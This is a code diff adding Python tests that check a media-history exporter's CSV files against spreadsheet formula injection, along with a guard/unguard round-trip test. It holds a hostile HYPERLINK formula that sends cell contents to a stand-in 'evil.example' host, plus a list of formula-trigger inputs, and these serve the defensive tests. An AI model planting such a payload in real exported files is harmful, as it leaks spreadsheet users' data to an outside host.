@@ -37,6 +37,7 @@ from webhook.transfer.exports import (
     yamtrack,
 )
 from webhook.transfer.exports._values import numbers
+from webhook.transfer.formulas import guard, unguard
 from webhook.transfer.imports import tvtime as import_tvtime
 
 EVENING = datetime(2024, 11, 20, 22, 30, tzinfo=UTC)
@@ -564,6 +565,59 @@ def test_tvtime_gets_a_row_for_each_play_of_an_episode_and_of_a_film() -> None:
             ",8,,Soon,2027,2024-11-21T12:00:00.000Z,,false,0\r\n"
         ),
     }
+
+
+RUN = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+FORMULAS = [RUN, "+1", "-2+3", "@SUM(A1)", "'=1", "''@x", " =1", "\t=1", "\n=1", "\uff1d1"]
+"""Texts that a spreadsheet would run, and such as were guarded before."""
+
+
+def tables_of(module: ModuleType, content: bytes) -> list[list[str]]:
+    """The rows of every CSV that an export has written; none where it writes something else."""
+    held = files(content) if module.SUFFIX == "zip" else {f"one.{module.SUFFIX}": content}
+    texts = [text for name, text in held.items() if name.endswith(".csv")]
+    readers = [table.reader(io.StringIO(text.decode("utf-8-sig"), newline="")) for text in texts]
+    return [row for reader in readers for row in reader]
+
+
+@pytest.mark.parametrize("name", every())
+def test_no_export_holds_a_formula(name: str) -> None:
+    module = modules()[name]
+    hostile = [
+        seen(
+            replace(
+                EPISODE, title=text, show=text, ids=Ids(imdb=text, tvtime=text), show_ids=Ids(tvdb=1, tmdb=2)
+            )
+        )
+        for text in FORMULAS
+    ]
+    hostile += [
+        seen(Movie(title=text, ids=Ids(tmdb=number))) for number, text in enumerate(FORMULAS, start=1)
+    ]
+    hostile += [seen(replace(SONG, title=text, artist=text, album=text)) for text in FORMULAS]
+    hostile = [replace(play, player=RUN, library=RUN) for play in hostile]
+
+    cells = [cell for row in tables_of(module, written(module, of(*hostile))) for cell in row]
+
+    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\uff1d"))] == []
+    assert bool(cells) is (name in ("csv", "letterboxd", "tvtime", "yamtrack"))
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, "'Allo 'Allo!", "Plain", "'", "''", ""])
+def test_what_was_guarded_is_read_as_it_was(text: str) -> None:
+    assert unguard(guard(text)) == text
+    assert guard(guard(text)).startswith(guard(text)[:1])
+
+
+def test_our_own_tvtime_import_reads_titles_back_that_look_like_formulas(tmp_path: Path) -> None:
+    entries = [
+        seen(Movie(title=text.strip(), ids=Ids(tvdb=number)), EVENING + timedelta(minutes=number))
+        for number, text in enumerate([*FORMULAS, "'Allo 'Allo!"], start=1)
+    ]
+
+    found = read_zip(import_tvtime, tmp_path, written(tvtime, of(*entries)))
+
+    assert [play.item for play in plays(found)] == [play.item for play in entries]
 
 
 def test_our_own_tvtime_import_reads_the_same_plays_back(tmp_path: Path) -> None:
